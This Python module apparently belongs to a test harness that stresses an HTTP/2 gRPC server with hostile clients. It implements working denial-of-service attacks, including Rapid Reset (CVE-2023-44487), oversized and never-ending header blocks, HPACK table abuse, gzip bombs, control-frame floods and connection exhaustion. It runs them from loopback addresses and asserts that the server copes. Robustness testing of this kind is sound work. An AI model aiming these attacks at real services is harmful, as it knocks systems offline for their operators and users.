"""What a hostile client does. Each attack is a function of a server's address and a size.

It sends `size` units, or as many as the server takes before it closes the connection, returns once the server has dealt
with them, and returns the bytes that it sent. A unit is a few KB or one item, by the attack.
"""

import gzip
import itertools
import os
import time

import http2
from http2 import ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE
from http2 import Closed, Connection, field, frame, integer, message, request_headers

# Hostile peers have this address, so that limits of a peer do not hit the jobs beside them.
SOURCE = "127.0.0.2"


def _send_all(address, chunks, size, **options):
    connection = Connection(address, source=SOURCE, **options)
    try:
        for chunk in itertools.islice(chunks, size):
            connection.send(chunk)
        connection.await_answer()
    except Closed:
        pass  # The server has had enough.
    connection.close()
    return connection.sent


def _endless_block(fields, of_a_frame):
    """A header block that begins and never ends, 20 frames at a time, with so many of `fields` in each.

    A frame has less than 16 KB of fields, which is what 1.51 allows in each frame.
    """
    yield frame(HEADERS, 0, 1, request_headers(http2.STREAM_PATH))
    while True:
        frames = (b"".join(itertools.islice(fields, of_a_frame)) for _ in range(20))
        yield b"".join(frame(CONTINUATION, 0, 1, payload) for payload in frames)


def endless_headers(address, size):
    names = (field(f"n{i}", "v" * 8) for i in itertools.count())
    return _send_all(address, _endless_block(names, 100), size)


def headers_by_reference(address, size):
    """One large entry in the table, and a byte for each time that it is repeated."""
    entries = itertools.chain([field("big", "v" * 3900, indexed=True)], itertools.repeat(integer(62, 7, 0x80)))
    return _send_all(address, _endless_block(entries, 3), size)


def table_inserts(address, size):
    """Complete requests, each of which fills the table anew."""

    def chunks():
        for i in itertools.count():
            fields = b"".join(field(f"t{i}-{j}", "", indexed=True) for j in range(100))
            block = request_headers(http2.STREAM_PATH) + fields
            yield frame(HEADERS, END_HEADERS, 2 * i + 1, block) + frame(RST_STREAM, 0, 2 * i + 1, b"\0\0\0\x08")

    return _send_all(address, chunks(), size)


def rapid_resets(address, size):
    """CVE-2023-44487, in units of 100 streams."""
    block = request_headers(http2.STREAM_PATH)

    def chunks():
        for first in itertools.count(0, 100):
            yield b"".join(
                frame(HEADERS, END_HEADERS, 2 * i + 1, block) + frame(RST_STREAM, 0, 2 * i + 1, b"\0\0\0\x08")
                for i in range(first, first + 100)
            )

    return _send_all(address, chunks(), size)


def huge_value(address, size):
    """CVE-2023-33953: one value of 256 MB, a frame at a time."""

    def chunks():
        yield frame(HEADERS, 0, 1, request_headers(http2.STREAM_PATH) + b"\x00" + http2.string("huge") + integer(1 << 28, 7))
        while True:
            yield frame(CONTINUATION, 0, 1, b"v" * http2.MOST_FRAME_BYTES)

    return _send_all(address, chunks(), size)


def value_in_crumbs(address, size):
    """A value of a size that is allowed, in frames of one byte, on stream after stream."""

    def chunks():
        crumb = frame(CONTINUATION, 0, 1, b"v")
        yield frame(HEADERS, 0, 1, request_headers(http2.STREAM_PATH) + b"\x00" + http2.string("crumbs") + integer(15000, 7))
        while True:
            yield crumb * 100

    return sum(_send_all(address, chunks(), 140) for _ in range(size))


def padded_number(address, size):
    """A length whose encoding never ends."""

    def chunks():
        yield frame(HEADERS, 0, 1, request_headers(http2.STREAM_PATH) + b"\x00\xff\x80\x80\x80\x80")
        while True:
            yield frame(CONTINUATION, 0, 1, b"\x80" * http2.MOST_FRAME_BYTES)

    return _send_all(address, chunks(), size)


def no_settings_ack(address, size):
    """Streams without end on a connection that never says that it knows how many it may open."""
    block = request_headers(http2.STREAM_PATH)

    def chunks():
        for first in itertools.count(0, 100):
            yield b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) for i in range(first, first + 100))

    return _send_all(address, chunks(), size, acknowledge=False)


def gzip_requests(address, size):
    """Small requests that inflate to 2 MB each, 16 at once on a connection."""
    inflating = message(gzip.compress(b"\0" * (2 << 20)), compressed=True)
    block = request_headers(http2.DESCRIBE_PATH, [("grpc-encoding", "gzip")])
    sent = 0
    for _ in range(size):
        connection = Connection(address, source=SOURCE)
        try:
            for i in range(16):
                connection.send(frame(HEADERS, END_HEADERS, 2 * i + 1, block) + frame(DATA, END_STREAM, 2 * i + 1, inflating))
            for _ in range(16):
                _, _, _, fields = connection.await_frame(lambda kind, flags, *_: kind == HEADERS and flags & END_STREAM)
                if b"grpc-status\x0212" not in fields:
                    raise AssertionError("a compressed request was not refused as unimplemented")
        except Closed:
            pass
        sent += connection.sent
        connection.close()
    return sent


def _bytes_field(number, data):
    """A field of a protobuf message: text, bytes or another message."""
    return http2.varint(number << 3 | 2) + http2.varint(len(data)) + data


def costly_describes(address, size):
    """In units of 32 callers, each of whom has a pipeline of 1,024 ops explained."""
    crop = _bytes_field(3, _bytes_field(2, _bytes_field(1, b"\x40")))  # RandomResizedCrop(64)
    rand_augment = _bytes_field(3, _bytes_field(31, b"\x08\x01"))  # RandAugment(num_ops=1)
    views = b"".join(_bytes_field(7, _bytes_field(1, b"v%d" % i) + crop + rand_augment * 63) for i in range(16))
    explain = _bytes_field(1, b"noise") + _bytes_field(2, views) + b"\x20\x01"
    frames = b"".join(
        frame(DATA, 0, 1, part) for part in (message(explain)[at : at + 16384] for at in range(0, len(explain) + 5, 16384))
    )
    sent = 0
    for _ in range(size):
        connections = [Connection(address, source=SOURCE) for _ in range(32)]
        for connection in connections:
            connection.send(frame(HEADERS, END_HEADERS, 1, request_headers(http2.DESCRIBE_PATH)) + frames)
            connection.send(frame(DATA, END_STREAM, 1))
        for connection in connections:
            _await_end(connection, 30)
            sent += connection.sent
            connection.close()
    return sent


def settings_flood(address, size):
    return _send_all(address, itertools.repeat(frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") * 200), size)


def ping_flood(address, size):
    return _send_all(address, itertools.repeat(frame(PING, 0, 0, b"12345678") * 200), size)


def settings_acks(address, size):
    return _send_all(address, itertools.repeat(frame(SETTINGS, ACK, 0) * 200), size)


def window_updates(address, size):
    return _send_all(address, itertools.repeat(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") * 200), size)


def priorities(address, size):
    return _send_all(address, itertools.repeat(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 200), size)


def huge_lengths(address, size):
    """Messages that say they have 4 GB, and frames that say they have 16 MB."""
    sent = 0
    for _ in range(size):
        lying = frame(DATA, 0, 1, message(os.urandom(8000), length=0xFFFFFFFF))
        begin = frame(HEADERS, END_HEADERS, 1, request_headers(http2.STREAM_PATH))
        sent += _send_all(address, [begin + lying], 1)
        sent += _send_all(address, [begin + b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + bytes(20000)], 1)
    return sent


def idle_connections(address, size):
    """Connections that greet and say nothing more."""
    connections = []
    for i in range(size):
        try:
            connections.append(Connection(address, source=f"127.0.{2 + i // 200}.{1 + i % 200}"))
        except OSError:
            break
    for connection in connections:
        try:
            connection.await_answer()
        except Closed:
            pass
    sent = sum(connection.sent for connection in connections)
    for connection in connections:
        connection.close()
    return sent


def _await_end(connection, seconds):
    """Waits until the server ends the connection, or its only stream."""
    try:
        connection.await_frame(lambda kind, flags, *_: kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM), seconds)
    except Closed:
        pass


def silent_connections(address, size):
    """Connections that never say a word. Returns once the server has closed them all; it has a minute for that."""
    connections = [Connection(address, source=SOURCE, greet=False, acknowledge=False) for _ in range(size)]
    until = time.monotonic() + 60
    for connection in connections:
        _await_end(connection, max(0, until - time.monotonic()))
        if connection.is_open():
            raise AssertionError("a connection that says nothing stays open")
        connection.close()
    return sum(connection.sent for connection in connections)


def unopened_streams(address, size):
    """Streams that never send `open`. Returns once the server has ended them all; it has a minute for that."""
    connections = [Connection(address, source=SOURCE) for _ in range(size)]
    block = request_headers(http2.STREAM_PATH)
    for connection in connections:
        connection.send(frame(HEADERS, END_HEADERS, 1, block))
    until = time.monotonic() + 60
    for connection in connections:
        _await_end(connection, max(0, until - time.monotonic()))
        if time.monotonic() > until:
            raise AssertionError("a stream that does not open stays")
        connection.close()
    return sum(connection.sent for connection in connections)


def connection_flood(address, size):
    """CVE-2023-4785: more connections than the server has descriptors for, then none."""
    connections = []
    for _ in range(size):
        try:
            connections.append(Connection(address, source=SOURCE, greet=False))
        except OSError:
            break
    for connection in connections:
        connection.close()
    return size
